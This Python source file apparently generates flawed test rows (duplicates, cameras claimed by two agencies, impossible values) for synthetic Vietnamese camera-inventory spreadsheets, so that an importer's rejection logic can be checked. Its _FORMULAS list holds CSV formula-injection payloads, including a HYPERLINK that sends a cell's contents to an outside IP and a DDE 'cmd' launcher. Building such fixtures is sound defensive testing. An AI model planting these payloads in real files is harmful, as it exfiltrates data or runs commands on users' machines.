"""What is wrong in the books: rows twice, cameras two agencies claim, and rows that cannot be right. All counted and known."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence

import msgspec

from khue.model.registry import Kind, Life, Purpose
from khue.sim.fleet.agencies import Agency
from khue.sim.fleet.books import Book, Row, Table, comes_before
from khue.sim.fleet.cameras import FleetCamera, Maker, scaled
from khue.sim.fleet.columns import Cell, Typist
from khue.sim.fleet.layout import AddressForm
from khue.sim.fleet.spelling import Spelling
from khue.sim.fleet.wording import UNKNOWN_PURPOSES

_TWICE_IN_A_BOOK, _IN_OLD_AND_NEW_LIST = 700, 350  # of 40,210
_REFUSED: Mapping[str, int] = {
    "no_position": 90, "position_outside": 80, "unit_unknown": 50, "name_missing": 80, "purpose_unknown": 70,
    "date_impossible": 60, "claimed_by_other": 90, "formula": 25, "value_impossible": 40, "unreadable": 25,
}  # fmt: skip
_ELSEWHERE = (
    (0.0, 0.0), (20.5101, 107.4209), (20.8449, 106.6881), (16.0544, 108.2022), (10.7769, 106.7009), (21.5942, 105.8482),
    (20.4200, 106.1683),
)  # fmt: skip
_NO_UNITS = ("Phường Bến Nghé", "Xã Tân Phú Trung", "Phường Mỹ Khê", "Xã Đông Hồ Thượng", "Phường 14")
_NO_DATES = ("31/02/2021", "30/02/2019", "32/01/2024", "15/13/2020", "00/00/2018")
_FORMULAS = (
    '=HYPERLINK("http://203.0.113.7/?q="&B2,"Camera")',
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(A1,B1)",
    "@SUM(1+1)*9",
)
_HEIGHTS = (1200, 650, -15)
_CAN: Mapping[str, Callable[[Book, Table], bool]] = {
    "no_position": lambda book, table: book.layout.address is AddressForm.PLAIN,
    "position_outside": lambda book, table: book.has_positions,
    "unit_unknown": lambda book, table: (
        book.layout.has("unit", "old_ward") and not book.has_positions and book.layout.address is AddressForm.PLAIN
    ),
    "name_missing": lambda book, table: True,
    "purpose_unknown": lambda book, table: True,
    "date_impossible": lambda book, table: book.layout.has("installed_on"),
    "formula": lambda book, table: True,
    "value_impossible": lambda book, table: book.layout.has("height"),
    "unreadable": lambda book, table: (
        book.layout.spelling is Spelling.COMPOSED
        and (book.layout.csv is None or book.layout.csv.encoding.startswith("utf-8"))
    ),
}


def make_mistakes(books: Sequence[Book], maker: Maker, cameras: int, chance: random.Random) -> None:
    """Put wrong and repeated rows between the right ones. What is refused is a camera of its own, outside the city's count."""
    tables = [(book, table) for book in books for table in book.tables if not table.proposals]
    _repeat(tables, max(3, scaled(_TWICE_IN_A_BOOK, cameras)), chance)
    _repeat_from_older(books, max(1, scaled(_IN_OLD_AND_NEW_LIST, cameras)), chance)
    for reason, number in _REFUSED.items():
        for _ in range(max(1, scaled(number, cameras))):
            if reason == "claimed_by_other":
                _claim(tables, chance)
                continue
            fit = [pair for pair in tables if _CAN[reason](*pair)]
            if fit:
                book, table = chance.choices(fit, [len(table.rows) ** 0.5 for _, table in fit])[0]
                _insert(table, 0, Row(_another(maker, book.agency, chance), reason), chance)


def _insert(table: Table, after: int, row: Row, chance: random.Random) -> None:
    table.rows.insert(chance.randint(min(after, len(table.rows)), len(table.rows)), row)


def _another(maker: Maker, agency: Agency, chance: random.Random) -> FleetCamera:
    """A camera of the agency that is in nobody's count."""
    purpose = {"BTL": Purpose.DEFENCE, "VOV": Purpose.VOV_TRAFFIC}.get(agency.short, Purpose.SECURITY)
    camera = maker.camera(purpose, Kind.FIXED, Life.OPERATING, True, False)
    camera.owner = camera.manager = agency
    camera.code = f"{agency.short}-X{camera.code[-5:]}"
    if agency.unit:
        camera.place = camera.place._replace(unit=agency.unit)
    return camera


def _same_device(row: Row, chance: random.Random) -> FleetCamera:
    """The camera of a row as somebody else typed it: its number stays, its name may change."""
    place = row.camera.place
    name = chance.choice((place.name, place.name.upper(), f"Camera {place.name}", f"{place.name} (mới)"))
    return msgspec.structs.replace(row.camera, place=place._replace(name=name))


def _same_place(row: Row, chance: random.Random) -> FleetCamera:
    """Name and address stay but for case; the position was measured again, some metres off."""
    place = row.camera.place
    moved = place._replace(
        name=chance.choice((place.name, place.name.upper(), place.name.lower())),
        lat=round(place.lat + chance.uniform(-4e-5, 4e-5), 6),
        lon=round(place.lon + chance.uniform(-4e-5, 4e-5), 6),
    )
    return msgspec.structs.replace(row.camera, place=moved)


def _again(book: Book, row: Row, chance: random.Random) -> FleetCamera:
    return _same_device(row, chance) if book.has_serials and row.camera.serial else _same_place(row, chance)


def _repeat(tables: Sequence[tuple[Book, Table]], number: int, chance: random.Random) -> None:
    fit = [(book, table) for book, table in tables if book.has_serials or book.has_positions]
    for _ in range(number):
        book, table = chance.choices(fit, [len(table.rows) for _, table in fit])[0]
        index = chance.randrange(len(table.rows))
        first = table.rows[index]
        known = first.camera.serial if book.has_serials else ""
        if first.outcome == "created" and (known or book.has_positions):
            _insert(table, index + 1, Row(_again(book, first, chance), first=first), chance)


def _repeat_from_older(books: Sequence[Book], number: int, chance: random.Random) -> None:
    """The new list repeats some of what the agency's older list has."""
    pairs = [
        (old, new, new.tables[0])
        for old in books
        for new in books
        if old.agency is new.agency
        and old.layout.older
        and old.file == old.layout.older
        and new.file == new.layout.file
        if new.tables and not new.tables[0].proposals
    ]
    for _ in range(number if pairs else 0):
        old, new, table = chance.choice(pairs)
        first = chance.choice(list(old.rows()))
        if first.outcome == "created" and comes_before(old.file, new.file):
            _insert(table, 0, Row(_again(new, first, chance), first=first), chance)


def _claim(tables: Sequence[tuple[Book, Table]], chance: random.Random) -> None:
    """A later book of another agency has the same device as its own."""
    fit = [(book, table) for book, table in tables if book.layout.has("serial") and book.layout.has("mac")]
    pairs = [
        (first, later)
        for first in fit
        for later in fit
        if first[0].agency is not later[0].agency and comes_before(first[0].file, later[0].file)
    ]
    if not pairs:
        return
    (_, theirs), (book, table) = chance.choice(pairs)
    first = chance.choice(theirs.rows)
    if first.outcome != "created" or not first.camera.serial:
        return
    camera = _same_device(first, chance)
    camera.owner = camera.manager = book.agency
    camera.code = f"{book.agency.short}-Y{camera.code[-5:]}"
    _insert(table, 0, Row(camera, "claimed_by_other"), chance)


def spoil(reason: str, cells: dict[str, Cell], typist: Typist, chance: random.Random) -> None:
    """Make the cells of a right row what ``reason`` says of them."""
    blank = typist.layout.blank
    match reason:
        case "no_position":
            for key in ("address", "unit", "unit_code", "old_ward", "old_district", "lat", "lon", "latlon"):
                if key in cells:
                    cells[key] = blank
        case "unit_unknown":
            cells["unit" if "unit" in cells else "old_ward"] = typist.text(chance.choice(_NO_UNITS))
            if "old_district" in cells:
                cells["old_district"] = blank
        case "name_missing":
            cells["name"] = blank
        case "purpose_unknown":
            cells["purpose"] = typist.text(chance.choice(UNKNOWN_PURPOSES))
        case "date_impossible":
            cells["installed_on"] = chance.choice(_NO_DATES)
        case "formula":
            cells["note" if "note" in cells and chance.random() < 0.3 else "name"] = chance.choice(_FORMULAS)
        case "value_impossible":
            cells["height"] = chance.choice(_HEIGHTS)
        case "unreadable":
            text = str(cells["name"])
            where = len(text) // 2
            broken = "\0" if typist.layout.csv else "\ufffd\ufffd"
            cells["name"] = text[:where] + broken + text[where:]


def moved(reason: str, camera: FleetCamera, chance: random.Random) -> FleetCamera:
    """The camera at a position that cannot be, when that is what is wrong."""
    if reason != "position_outside":
        return camera
    lat, lon = chance.choice(_ELSEWHERE)
    return msgspec.structs.replace(camera, place=camera.place._replace(lat=lat, lon=lon))
